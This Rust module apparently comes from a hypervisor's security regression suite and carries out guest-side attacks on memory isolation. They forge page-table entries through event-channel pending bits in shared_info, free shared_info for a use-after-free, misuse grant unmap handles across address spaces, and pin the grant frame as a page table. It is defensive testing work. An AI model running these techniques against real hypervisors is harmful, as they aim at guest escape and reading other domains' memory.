//! Regression attacks for the memory findings of issue 10, each attempted for real and judged
//! by what it changed, not by what the hypervisor answered:
//!
//! - **F1**: `shared_info` made the guest's own page table (pinned as an L1, in one
//!   `mmuext_op` batch and alone, or hooked into an L2 unpinned), then PTEs forged through the
//!   event-channel pending bits the hypervisor writes into entries 256–319; and the frame
//!   freed with `decrease_reservation` while the hypervisor keeps writing it.
//! - **F2**: one grant mapped twice (VA1, VA2), unmapped naming handle 1 with VA2, and, on
//!   another L4, naming an address handle 1 never mapped there.
//! - **F4**: the guest's grant-table frame pinned as a page table.
//!
//! The shared-info attacks take the page away from the runtime for a few hypercalls; while it
//! is gone (or read-only) nothing here touches it, events stay masked (the mask byte is kept),
//! and what it held is put back afterwards.

use guest_abi::calls;
use guest_abi::event::EVTCHN_2L_NR_CHANNELS;
use guest_abi::grant::{
    GNTMAP_HOST_MAP, GNTST_GENERAL_ERROR, GNTST_OKAY, GTF_PERMIT_ACCESS, GTF_READING, GTF_WRITING,
    GrantHandle, GrantRef,
};
use guest_abi::memory::{
    MMUEXT_PIN_L1_TABLE, MMUEXT_PIN_L2_TABLE, MMUEXT_TLB_FLUSH_LOCAL, MmuextOp, UVMF_INVLPG,
    UVMF_LOCAL, XENMEM_DECREASE_RESERVATION, XENMEM_POPULATE_PHYSMAP, XeniaFrameCounts,
};
use guest_abi::types::DOMID_SELF;
use xenia_guest_rt::boot::{shared, start_info};
use xenia_guest_rt::mm::{self, ENTRIES, PAGE, Window, pte, pte::entry};
use xenia_guest_rt::probe;
use xenia_guest_rt::trap::PAGE_FAULT;

use crate::env::{Env, FREE_L2_SLOT, FREE_L4_SLOT, FREE_L4_VA};
use crate::hv::{self, SELF_ID, gntst};
use crate::verdict::{Errname, Verdict};
use crate::{refused, setup_error, succeeded};

const P: u64 = pte::PRESENT;
const RW: u64 = pte::RW;
const U: u64 = pte::USER;

/// Index of the `l1` count in [`XeniaFrameCounts::by_type`] (guest-abi `XENIA_FRAME_TYPES`).
const TYPE_L1: usize = 1;
/// Index of the `l4` count.
const TYPE_L4: usize = 4;

/// Window slots of this module (the other modules use 1 to 4; the runtime keeps the top two).
const SLOT_GRANT_TABLE: usize = 5;
const SLOT_VA1: usize = 6;
const SLOT_VA2: usize = 7;
const SLOT_SCRATCH: usize = 8;

/// The grant references the two grant attacks use (above Xen's reserved entries 0–7): one
/// each, so that what a successful first attack leaves behind cannot spoil the second.
const GREF_SAME_L4: GrantRef = 10;
const GREF_OTHER_L4: GrantRef = 11;
/// What the granted frame holds at word 0.
const GRANT_PATTERN: u64 = 0x6772_616E_7421_4632;

/// First entry of `shared_info` that holds `evtchn_pending` (2048 bytes of `vcpu_info` come
/// first, 8 bytes an entry): entries 256–319 are the pending words, ports `64 w .. 64 w + 63`.
const PENDING_FIRST_ENTRY: usize = 256;
/// The pending word the forged PTE is built in: word 4, entry 260, ports 256–319.
const FORGE_WORD: usize = 4;
/// Most IPI ports the forging allocates (the highest one it needs is below 320).
const FORGE_MAX_PORTS: usize = 384;
/// How often a pin of the cleared `shared_info` is tried: the hypervisor counts every entry
/// in word 3 of `vcpu_info[0]` (guest-abi `ArchVcpuInfo::pad`), which reads as a present PTE
/// (to machine frame 0, not the guest's) whenever the count is odd, and each try is an entry.
const PIN_TRIES: usize = 4;

/// The shared-info page: its address, machine frame and the L1 entry that maps it.
struct SharedInfoPage {
    va: u64,
    mfn: u64,
    pte: u64,
}

impl SharedInfoPage {
    #[allow(clippy::result_large_err)] // As for `tables::fresh`: the verdict is the error.
    fn find() -> Result<SharedInfoPage, Verdict> {
        let va = shared() as *const _ as u64;
        let mfn = start_info().shared_info >> 12;
        match mm::walk(va)[3] {
            Some(s) if s.present() && pte::mfn(s.entry) == mfn => Ok(SharedInfoPage {
                va,
                mfn,
                pte: s.entry,
            }),
            _ => Err(setup_error!(
                "shared_info is not mapped where start_info says"
            )),
        }
    }

    /// A copy of the page.
    fn save(&self) -> [u64; ENTRIES] {
        let mut page = [0; ENTRIES];
        for (i, w) in page.iter_mut().enumerate() {
            // SAFETY: the page is mapped (readable) at va for the domain's lifetime.
            *w = unsafe { ((self.va + 8 * i as u64) as *const u64).read_volatile() };
        }
        page
    }

    /// Writes `page` over it (the mapping must be writable).
    fn restore(&self, page: &[u64; ENTRIES]) {
        for (i, w) in page.iter().enumerate() {
            // SAFETY: the page is mapped writable at va; every bit pattern is a valid
            // shared_info (all atomics).
            unsafe { ((self.va + 8 * i as u64) as *mut u64).write_volatile(*w) };
        }
    }

    /// The attacker's clean L1: every entry zero but the event mask byte of `vcpu_info[0]`
    /// (byte 1: events stay masked, so no upcall reads the page meanwhile).
    fn clear(&self) {
        let mut page = [0; ENTRIES];
        page[0] = 1 << 8;
        self.restore(&page);
    }

    /// Maps it with `pte` at its address; returns `rax`.
    fn remap(&self, pte: u64) -> i64 {
        // SAFETY: only the shared-info page is remapped; the callers keep Rust code away from
        // it until it is mapped writable again.
        unsafe { mm::update_va(self.va, pte, UVMF_INVLPG | UVMF_LOCAL) }
    }
}

fn counts() -> XeniaFrameCounts {
    mm::frame_counts().unwrap_or_default()
}

/// Pins `mfn` as an L1 up to [`PIN_TRIES`] times; returns the last `rax`.
fn pin_l1_retrying(mfn: u64) -> i64 {
    let mut ret = 0;
    for _ in 0..PIN_TRIES {
        // SAFETY: the frame under attack is hooked in nowhere; pinning changes no mapping.
        ret = unsafe { mm::pin(1, mfn) };
        if ret >= 0 {
            break;
        }
    }
    ret
}

/// The virtual address an L1 hooked into the free slot of the bootstrap L2 maps.
fn hooked_va(env: &Env) -> u64 {
    const GIB: u64 = 1 << 30;
    (env.target_va() & !(GIB - 1)) + ((FREE_L2_SLOT as u64) << 21)
}

/// What the forging achieved: `None` if nothing was read through the forged entry.
#[allow(clippy::result_large_err)] // As for `tables::fresh`.
fn forge_through_pending_bits(env: &Env, base: u64) -> Result<Option<u64>, Verdict> {
    // The entry to forge: the foreign frame, present and writable.
    let forged = entry(env.foreign, P | RW);
    let first_port = (FORGE_WORD * 64) as u32;
    let mut ports = [0u32; FORGE_MAX_PORTS];
    let mut n = 0;
    // IPI ports come lowest first: allocate until the highest bit of the forged entry has its
    // port.
    let highest = first_port + 63 - forged.leading_zeros();
    while n < FORGE_MAX_PORTS {
        match calls::evtchn_bind_ipi(0) {
            Ok(p) => {
                ports[n] = p;
                n += 1;
                if p >= highest {
                    break;
                }
            }
            Err(e) => {
                close_all(&ports[..n]);
                return Err(setup_error!("binding IPI port {n}: {}", e.name()));
            }
        }
    }
    let mut sent = 0u64;
    for &p in &ports[..n] {
        if (first_port..first_port + 64).contains(&p) && forged & (1 << (p - first_port)) != 0 {
            let _ = calls::evtchn_send(p);
            sent |= 1 << (p - first_port);
        }
    }
    let va = base + ((PENDING_FIRST_ENTRY + FORGE_WORD) as u64) * PAGE;
    let mut v: u64 = 0;
    // SAFETY: a load through the forged entry; if the forging failed it faults and the probe
    // resumes.
    let p =
        unsafe { probe!(PAGE_FAULT, "mov {v}, qword ptr [{a}]"; a = in(reg) va, v = inout(reg) v) };
    close_all(&ports[..n]);
    // SAFETY: drops whatever the load left in the TLB.
    unsafe { mm::mmuext_one(MMUEXT_TLB_FLUSH_LOCAL, 0) };
    if sent != forged {
        return Err(setup_error!(
            "ports for the forged entry: sent {sent:#x}, wanted {forged:#x}"
        ));
    }
    Ok(p.caught.is_none().then_some(v))
}

fn close_all(ports: &[u32]) {
    for &p in ports {
        let _ = calls::evtchn_close(p);
    }
}

/// F1: `shared_info` as a page table. Clears the page, maps it read-only (so no writable
/// mapping stands in the way), then: pins it as an L1 alone and in one `mmuext_op` batch
/// with an L2 that hooks it, and hooks it unpinned into the bootstrap L2. Whatever got
/// through is used: hooked into the L2, IPI ports whose pending bits form a PTE to a foreign
/// frame are sent, and the forged address is read. Afterwards the page must map writable
/// again (it stayed a writable-type frame) and the L1 count must not have moved.
pub fn shared_info_as_page_table(env: &Env) -> Verdict {
    let si = match SharedInfoPage::find() {
        Ok(s) => s,
        Err(v) => return v,
    };
    // An L2 whose entry 0 hooks the shared-info frame (for the batch variant), made while
    // the page is still the runtime's.
    let Some((_, l2)) = mm::fresh_frame() else {
        return setup_error!("no fresh frame");
    };
    let si_mfn = si.mfn;
    // SAFETY: a fresh frame, mapped nowhere.
    if let Err(ret) = unsafe { mm::fill_frame(l2, |t| t[0] = entry(si_mfn, P | RW | U)) } {
        return setup_error!("writing a fresh frame: {}", Errname(ret));
    }
    let before = counts();
    let saved = si.save();
    si.clear();
    let ro = si.remap(entry(si.mfn, P));
    if ro < 0 {
        // Still mapped writable: give the runtime its page back.
        si.restore(&saved);
        return setup_error!("mapping shared_info read-only: {}", Errname(ro));
    }
    // Alone.
    let pin_alone = pin_l1_retrying(si.mfn);
    let mut forged = None;
    let mut hook = i64::MIN;
    let hook_ma = Env::entry_ma(env.l2, FREE_L2_SLOT);
    if pin_alone >= 0 {
        // SAFETY: the free L2 slot maps nothing Rust code uses.
        hook = unsafe { mm::set_entry(hook_ma, entry(si.mfn, P | RW)) };
        if hook >= 0 {
            forged = Some(forge_through_pending_bits(env, hooked_va(env)));
            // SAFETY: as above.
            unsafe { mm::set_entry(hook_ma, 0) };
        }
        // SAFETY: the frame is hooked in nowhere now.
        unsafe { mm::unpin(si.mfn) };
    }
    // In one batch: pin it as an L1 and pin an L2 that hooks it.
    let batch = [
        MmuextOp {
            cmd: MMUEXT_PIN_L1_TABLE,
            arg1: si.mfn,
            arg2: 0,
        },
        MmuextOp {
            cmd: MMUEXT_PIN_L2_TABLE,
            arg1: l2,
            arg2: 0,
        },
    ];
    // SAFETY: neither table is hooked into the address space in use.
    let (batch_ret, batch_done) = unsafe { mm::mmuext(&batch) };
    if batch_done >= 2 {
        // SAFETY: as above.
        unsafe { mm::unpin(l2) };
    }
    if batch_done >= 1 {
        // SAFETY: as above.
        unsafe { mm::unpin(si.mfn) };
    }
    // Unpinned, straight into the bootstrap L2 (the hypervisor would validate it as an L1).
    // SAFETY: the free L2 slot maps nothing Rust code uses.
    let hook_unpinned = unsafe { mm::set_entry(hook_ma, entry(si.mfn, P | RW)) };
    if hook_unpinned >= 0 {
        // SAFETY: as above.
        unsafe { mm::set_entry(hook_ma, 0) };
        // SAFETY: drops the hooked tables from the TLB.
        unsafe { mm::mmuext_one(MMUEXT_TLB_FLUSH_LOCAL, 0) };
    }
    // Read back: the page must map writable again, and then it gets its contents back.
    let writable = si.remap(si.pte);
    if writable >= 0 {
        si.restore(&saved);
    }
    let after = counts();
    let how = format_args!(
        "pin {}, batch {} done {batch_done}, hook unpinned {}, hook pinned {}, forged read \
         {:?}, writable again {}, l1 count {} -> {}",
        Errname(pin_alone),
        Errname(batch_ret),
        Errname(hook_unpinned),
        Errname(hook),
        forged.as_ref().map(|f| f.as_ref().ok().copied().flatten()),
        Errname(writable),
        before.by_type[TYPE_L1],
        after.by_type[TYPE_L1],
    );
    if pin_alone < 0
        && batch_done == 0
        && hook_unpinned < 0
        && writable >= 0
        && after.by_type[TYPE_L1] == before.by_type[TYPE_L1]
    {
        refused!("{how}")
    } else {
        succeeded!("{how}")
    }
}

/// F1, second half: unmaps `shared_info` and gives the frame back with
/// `decrease_reservation`. Refused when nothing was freed and the frame maps writable again.
/// If it was freed, the attack repopulates one page: when that is the freed frame, the
/// hypervisor's event writes show in an ordinary page (a use-after-free); either way the
/// runtime gets a page with the old contents at the shared-info address so the suite goes on.
pub fn shared_info_freed_while_unmapped(_: &Env) -> Verdict {
    let si = match SharedInfoPage::find() {
        Ok(s) => s,
        Err(v) => return v,
    };
    let saved = si.save();
    let res_before = mm::current_reservation();
    let unmapped = si.remap(0);
    let mut extents = [si.mfn];
    // SAFETY: the frame is mapped nowhere now; if it is freed, the page at si.va is replaced
    // below before anything reads it.
    let freed = unsafe { mm::reservation(XENMEM_DECREASE_RESERVATION, &mut extents, DOMID_SELF) };
    let remap = si.remap(si.pte);
    if remap >= 0 {
        let res_after = mm::current_reservation();
        let how = format_args!(
            "unmap {}, decrease_reservation {}, mapped writable again, reservation {} -> {}",
            Errname(unmapped),
            Errname(freed),
            Errname(res_before),
            Errname(res_after)
        );
        return if freed <= 0 && res_after == res_before {
            refused!("{how}")
        } else {
            succeeded!("{how}")
        };
    }
    // The frame is gone: take a page, and see whether it is the freed shared_info.
    let pfn = mm::nr_pages();
    let mut extents = [pfn];
    // SAFETY: a pfn past the p2m list: nothing maps it.
    let got = unsafe { mm::reservation(XENMEM_POPULATE_PHYSMAP, &mut extents, DOMID_SELF) };
    let new = extents[0];
    let same = got == 1 && new == si.mfn;
    let placed = if got == 1 {
        si.remap(entry(new, P | RW))
    } else {
        -1
    };
    let mut written_by_hypervisor = false;
    if placed >= 0 {
        if same {
            // The page is ours as a plain page; an event sent now must not show in it.
            let mut page = saved;
            page[PENDING_FIRST_ENTRY + FORGE_WORD] = 0;
            si.restore(&page);
            if let Ok(port) = calls::evtchn_bind_ipi(0) {
                let _ = calls::evtchn_send(port);
                written_by_hypervisor = si.save() != page;
                let _ = calls::evtchn_close(port);
            }
        }
        si.restore(&saved);
    }
    succeeded!(
        "unmap {}, decrease_reservation {} freed it, mapping it back {}, repopulated {} as \
         mfn {new:#x} (the freed frame: {same}), placed {}, hypervisor still writes it: \
         {written_by_hypervisor}",
        Errname(unmapped),
        Errname(freed),
        Errname(remap),
        Errname(got),
        Errname(placed)
    )
}

// ---------------------------------------------------------------------------------------------
// Grants.

/// The guest's grant frame mapped writable, a fresh data frame granted to itself in
/// `gref`, and two empty window slots to map it at.
struct GrantSetup {
    gref: GrantRef,
    table: Window,
    data: u64,
    va1: Window,
    va2: Window,
}

impl GrantSetup {
    #[allow(clippy::result_large_err)] // As for `tables::fresh`: the verdict is the error.
    fn new(gref: GrantRef) -> Result<GrantSetup, Verdict> {
        let gframe = hv::grant_frame()
            .map_err(|(ret, st)| setup_error!("setup_table: {} {}", Errname(ret), gntst(st)))?;
        let (_, data) = mm::fresh_frame().ok_or_else(|| setup_error!("no fresh frame"))?;
        // SAFETY: a fresh frame, mapped nowhere.
        unsafe { mm::fill_frame(data, |t| t[0] = GRANT_PATTERN) }
            .map_err(|r| setup_error!("writing a fresh frame: {}", Errname(r)))?;
        // SAFETY: the slots are this module's.
        let table = unsafe { Window::writable(SLOT_GRANT_TABLE, gframe) }
            .map_err(|r| setup_error!("mapping the grant frame writable: {}", Errname(r)))?;
        hv::grant(table.va(), gref, SELF_ID, data, GTF_PERMIT_ACCESS);
        // SAFETY: as above; an empty entry, so that a grant can be mapped there.
        let va1 = unsafe { Window::open(SLOT_VA1, 0) }
            .map_err(|r| setup_error!("emptying a slot: {}", Errname(r)))?;
        // SAFETY: as above.
        let va2 = unsafe { Window::open(SLOT_VA2, 0) }
            .map_err(|r| setup_error!("emptying a slot: {}", Errname(r)))?;
        Ok(GrantSetup {
            gref,
            table,
            data,
            va1,
            va2,
        })
    }

    #[allow(clippy::result_large_err)] // As for `tables::fresh`: the verdict is the error.
    fn map(&self, va: u64) -> Result<GrantHandle, Verdict> {
        // SAFETY: va is one of this module's empty window slots.
        let (ret, st, h) = unsafe { hv::grant_map(va, GNTMAP_HOST_MAP, self.gref, SELF_ID) };
        if ret != 0 || st != GNTST_OKAY {
            return Err(setup_error!(
                "mapping its own grant at {va:#x}: {} {}",
                Errname(ret),
                gntst(st)
            ));
        }
        Ok(h)
    }

    fn busy(&self) -> bool {
        hv::grant_flags(self.table.va(), self.gref) & (GTF_READING | GTF_WRITING) != 0
    }

    /// Unmaps every grant mapping still at `vas` with whichever of `handles` works, then
    /// ends the grant and closes the windows.
    fn teardown(self, vas: &[u64], handles: &[GrantHandle]) {
        for &va in vas {
            for &h in handles {
                if maps(va) != Some(self.data) {
                    break;
                }
                // SAFETY: the slot is this module's.
                let _ = unsafe { hv::grant_unmap(va, 0, h) };
            }
        }
        if !self.busy() {
            hv::ungrant(self.table.va(), self.gref);
        }
        let _ = self.va1.close();
        let _ = self.va2.close();
        let _ = self.table.close();
    }
}

/// The machine frame the current address space maps at `va`, if any.
fn maps(va: u64) -> Option<u64> {
    mm::walk(va)[3]
        .filter(|s| s.present())
        .map(|s| pte::mfn(s.entry))
}

/// Reads word 0 at `va`, or `None` if it faults.
fn read(va: u64) -> Option<u64> {
    let v: u64;
    // SAFETY: a load; the probe resumes on #PF.
    let p =
        unsafe { probe!(PAGE_FAULT, "mov {v}, qword ptr [{a}]"; a = in(reg) va, v = out(reg) v) };
    p.caught.is_none().then_some(v)
}

/// F2: the grant mapped at VA1 (handle 1) and VA2 (handle 2); unmapping handle 1 naming VA2
/// must be refused, leaving both mappings, the busy bits, and handle 1 usable.
pub fn grant_unmap_wrong_address(_: &Env) -> Verdict {
    let g = match GrantSetup::new(GREF_SAME_L4) {
        Ok(g) => g,
        Err(v) => return v,
    };
    let (va1, va2) = (g.va1.va(), g.va2.va());
    let (h1, h2) = match (g.map(va1), g.map(va2)) {
        (Ok(a), Ok(b)) => (a, b),
        (Err(v), _) | (_, Err(v)) => {
            g.teardown(&[va1, va2], &[0, 1, 2]);
            return v;
        }
    };
    if read(va1) != Some(GRANT_PATTERN) {
        g.teardown(&[va1, va2], &[h1, h2]);
        return setup_error!("the grant mapping does not show the granted frame");
    }
    // SAFETY: both slots are this module's.
    let (ret, st) = unsafe { hv::grant_unmap(va2, 0, h1) };
    let (m1, m2) = (maps(va1), maps(va2));
    let (r1, r2) = (read(va1), read(va2));
    let busy = g.busy();
    let data = g.data;
    // Handle 1 must still unmap VA1: the refusal left it as it was.
    // SAFETY: as above.
    let (_, st1) = unsafe { hv::grant_unmap(va1, 0, h1) };
    let how = format_args!(
        "unmap(handle {h1}, VA2) {} {}; VA1 maps {m1:x?} reads {r1:x?}, VA2 maps {m2:x?} \
         reads {r2:x?}, busy {busy}, then unmap(handle {h1}, VA1) {}",
        Errname(ret),
        gntst(st),
        gntst(st1)
    );
    let intact = m1 == Some(data)
        && m2 == Some(data)
        && r1 == Some(GRANT_PATTERN)
        && r2 == Some(GRANT_PATTERN)
        && busy
        && st1 == GNTST_OKAY;
    let verdict = if st == GNTST_GENERAL_ERROR && intact {
        refused!("{how}")
    } else {
        succeeded!("{how}")
    };
    g.teardown(&[va1, va2], &[h2, h1]);
    verdict
}

/// An L4 with the kernel's entries and, in the free slot, a path of fresh tables to an empty
/// L1 entry for `va` (a grant can be mapped there); pinned. Returns the L4 and the tables.
#[allow(clippy::result_large_err)] // As for `tables::fresh`.
fn second_l4(env: &Env, va: u64) -> Result<(u64, [u64; 3]), Verdict> {
    let mut tables = [0u64; 3];
    for t in &mut tables {
        *t = mm::fresh_frame()
            .ok_or_else(|| setup_error!("no fresh frame"))?
            .1;
    }
    let [l3, l2, l1] = tables;
    let fill = |mfn: u64, index: usize, next: u64| {
        // SAFETY: a fresh frame, mapped nowhere.
        unsafe {
            mm::fill_frame(mfn, |t| {
                if next != 0 {
                    t[index] = entry(next, P | RW | U);
                }
            })
        }
        .map_err(|r| setup_error!("writing a fresh frame: {}", Errname(r)))
    };
    fill(l1, 0, 0)?;
    fill(l2, mm::index(va, 2), l1)?;
    fill(l3, mm::index(va, 3), l2)?;
    let (_, l4) = mm::fresh_frame().ok_or_else(|| setup_error!("no fresh frame"))?;
    let mut kernel = [0u64; ENTRIES];
    for (i, e) in kernel.iter_mut().enumerate() {
        if !guest_abi::layout::is_hypervisor_l4_slot(i) && i != FREE_L4_SLOT {
            *e = mm::read_entry(env.l4, i).unwrap_or(0);
        }
    }
    kernel[FREE_L4_SLOT] = entry(l3, P | RW | U);
    // SAFETY: a fresh frame, mapped nowhere.
    unsafe { mm::fill_frame(l4, |t| t.copy_from_slice(&kernel)) }
        .map_err(|r| setup_error!("writing a fresh frame: {}", Errname(r)))?;
    // SAFETY: a new L4 hooked in nowhere; pinning validates the tables below it.
    let ret = unsafe { mm::pin(4, l4) };
    if ret < 0 {
        return Err(setup_error!("pinning a second L4: {}", Errname(ret)));
    }
    Ok((l4, tables))
}

/// F2 across address spaces: the grant mapped at VA in the bootstrap L4 (handle 1) and at
/// the same VA in a second L4 (handle 2); on the second L4, unmapping handle 1 naming VA
/// must either be refused with both mappings kept, or remove handle 1's own mapping (in
/// the first L4) and leave handle 2's: never handle 2's PTE, never a PTE without its
/// handle.
pub fn grant_unmap_other_address_space(env: &Env) -> Verdict {
    let va = FREE_L4_VA;
    let g = match GrantSetup::new(GREF_OTHER_L4) {
        Ok(g) => g,
        Err(v) => return v,
    };
    // A path to an empty L1 entry for va in the bootstrap L4.
    // SAFETY: the free L4 slot maps nothing Rust code uses.
    let first = match unsafe { mm::map_page(va, 0) } {
        Ok(m) => m,
        Err((what, r)) => {
            g.teardown(&[], &[]);
            return setup_error!("building tables for {va:#x}: {what} {}", Errname(r));
        }
    };
    let cleanup_first = || {
        // SAFETY: nothing maps the page any more.
        let _ = unsafe { mm::unmap_page(&first) };
    };
    let (l4b, _) = match second_l4(env, va) {
        Ok(x) => x,
        Err(v) => {
            cleanup_first();
            g.teardown(&[], &[]);
            return v;
        }
    };
    let h1 = match g.map(va) {
        Ok(h) => h,
        Err(mut v) => {
            let _ = core::fmt::Write::write_str(&mut v.how, " (first L4)");
            // SAFETY: a pinned L4 not in use.
            unsafe { mm::unpin(l4b) };
            cleanup_first();
            g.teardown(&[], &[]);
            return v;
        }
    };
    // SAFETY: the second L4 maps the kernel's half exactly as the bootstrap one does.
    let switch = unsafe { mm::new_baseptr(l4b) };
    if switch < 0 {
        // SAFETY: the slot is the attack's.
        unsafe { hv::grant_unmap(va, 0, h1) };
        // SAFETY: a pinned L4 not in use.
        unsafe { mm::unpin(l4b) };
        cleanup_first();
        g.teardown(&[], &[]);
        return setup_error!("switching to the second L4: {}", Errname(switch));
    }
    let h2 = g.map(va);
    let (ret, st) = match h2 {
        // SAFETY: as above.
        Ok(_) => unsafe { hv::grant_unmap(va, 0, h1) },
        Err(_) => (0, 0x7777),
    };
    let here = maps(va);
    let read_here = read(va);
    // Clean the second address space with whichever handle still works.
    let mut handles = [h1, h1];
    if let Ok(h) = h2 {
        handles = [h, h1];
    }
    for &h in &handles {
        if maps(va) != Some(g.data) {
            break;
        }
        // SAFETY: as above.
        let _ = unsafe { hv::grant_unmap(va, 0, h) };
    }
    // SAFETY: back to the address space the kernel started in.
    unsafe { mm::new_baseptr(env.l4) };
    let there = maps(va);
    let read_there = read(va);
    for &h in &[h1, handles[0]] {
        if maps(va) != Some(g.data) {
            break;
        }
        // SAFETY: as above.
        let _ = unsafe { hv::grant_unmap(va, 0, h) };
    }
    // SAFETY: the second L4 is no longer in use.
    unsafe { mm::unpin(l4b) };
    cleanup_first();
    let data = g.data;
    g.teardown(&[], &[]);
    if let Err(mut v) = h2 {
        let _ = core::fmt::Write::write_str(&mut v.how, " (second L4)");
        return v;
    }
    let how = format_args!(
        "on the second L4 unmap(handle {h1}, {va:#x}) {} {}; there it maps {here:x?} reads \
         {read_here:x?}; on the first it maps {there:x?} reads {read_there:x?}",
        Errname(ret),
        gntst(st)
    );
    // Two safe outcomes: the unmap is refused and both mappings stay; or it removes
    // exactly handle 1's mapping, in the address space where handle 1 made it, and leaves
    // handle 2's. Anything else removed a PTE the handle did not make, or left one mapped
    // with its handle gone.
    let second_intact = here == Some(data) && read_here == Some(GRANT_PATTERN);
    let first_intact = there == Some(data) && read_there == Some(GRANT_PATTERN);
    let refused_both_kept = st != GNTST_OKAY && second_intact && first_intact;
    let removed_its_own = st == GNTST_OKAY && second_intact && there.is_none();
    if refused_both_kept || removed_its_own {
        refused!("{how}")
    } else {
        succeeded!("{how}")
    }
}

/// F4: the guest's own grant frame pinned as a page table of each level: refused every time,
/// the table counts unchanged, and the frame still maps writable (its word written and read
/// back).
pub fn pin_grant_frame(_: &Env) -> Verdict {
    let gframe = match hv::grant_frame() {
        Ok(f) => f,
        Err((ret, st)) => return setup_error!("setup_table: {} {}", Errname(ret), gntst(st)),
    };
    let before = counts();
    let mut rets = [0i64; 4];
    for (level, r) in (1..=4).zip(rets.iter_mut()) {
        // SAFETY: the grant frame is hooked in nowhere; a pin that wrongly succeeds is undone.
        *r = unsafe { mm::pin(level, gframe) };
        if *r >= 0 {
            // SAFETY: as above.
            unsafe { mm::unpin(gframe) };
        }
    }
    let after = counts();
    // Read back: the frame is still writable; an unused entry (the last) takes a word.
    const LAST_ENTRY: u64 = PAGE - 8;
    // SAFETY: the slot is this module's.
    let w = unsafe { Window::writable(SLOT_SCRATCH, gframe) };
    let writable = match w {
        Ok(w) => {
            w.write(LAST_ENTRY, 0);
            let ok = w.read(LAST_ENTRY) == 0;
            let _ = w.close();
            if ok { 0 } else { -1 }
        }
        Err(r) => r,
    };
    let how = format_args!(
        "grant frame {gframe:#x} as L1..L4: {} {} {} {}; mapping it writable {}; L1..L4 \
         counts {:?} -> {:?}",
        Errname(rets[0]),
        Errname(rets[1]),
        Errname(rets[2]),
        Errname(rets[3]),
        Errname(writable),
        &before.by_type[TYPE_L1..=TYPE_L4],
        &after.by_type[TYPE_L1..=TYPE_L4],
    );
    if rets.iter().all(|&r| r < 0)
        && writable == 0
        && before.by_type[TYPE_L1..=TYPE_L4] == after.by_type[TYPE_L1..=TYPE_L4]
    {
        refused!("{how}")
    } else {
        succeeded!("{how}")
    }
}

/// Keeps the constants' relation honest: the forged word's ports exist.
const _: () = assert!(((FORGE_WORD + 1) * 64) as u32 <= EVTCHN_2L_NR_CHANNELS);
/// The first pending entry is where guest-abi puts `evtchn_pending`: after 32 `vcpu_info`s.
const _: () = assert!(
    core::mem::offset_of!(guest_abi::shared_info::SharedInfo, evtchn_pending)
        == PENDING_FIRST_ENTRY * 8
);
// The window slots of this module are the caller's and distinct from env's.
const _: () = assert!(SLOT_SCRATCH < mm::FREE_SLOTS);
